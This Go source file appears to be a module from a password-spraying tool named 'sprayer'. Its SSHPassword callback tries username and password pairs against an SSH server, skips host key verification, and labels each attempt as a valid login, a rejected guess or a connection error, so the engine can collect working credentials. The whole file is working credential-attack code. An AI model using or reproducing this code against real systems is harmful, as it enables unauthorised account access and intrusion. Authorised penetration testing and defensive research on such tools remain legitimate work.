package callback

import (
	"context"
	"net"
	"strings"
	"time"

	"golang.org/x/crypto/ssh"

	"sprayer/internal/engine"
)

// SSHPassword attempts an SSH password login against addr (host:port).
// A completed handshake means valid; an auth rejection means invalid; dial
// and protocol failures are error outcomes.
func SSHPassword(addr string, timeout time.Duration) engine.Callback {
	if timeout <= 0 {
		timeout = 5 * time.Second
	}

	return func(ctx context.Context, username, password string) (bool, error) {
		cfg := &ssh.ClientConfig{
			User: username,
			Auth: []ssh.AuthMethod{
				ssh.Password(password),
			},
			HostKeyCallback: ssh.InsecureIgnoreHostKey(),
			Timeout:         timeout,
		}

		d := net.Dialer{Timeout: timeout}
		conn, err := d.DialContext(ctx, "tcp", addr)
		if err != nil {
			return false, err
		}
		defer conn.Close()

		c, chans, reqs, err := ssh.NewClientConn(conn, addr, cfg)
		if err != nil {
			if isAuthFailure(err) {
				return false, nil
			}
			return false, err
		}

		client := ssh.NewClient(c, chans, reqs)
		defer client.Close()
		return true, nil
	}
}

// isAuthFailure separates "wrong password" from transport-level failures so
// rejections are committed as failures, not errors.
func isAuthFailure(err error) bool {
	if err == nil {
		return false
	}
	msg := err.Error()
	return strings.Contains(msg, "unable to authenticate") ||
		strings.Contains(msg, "permission denied")
}
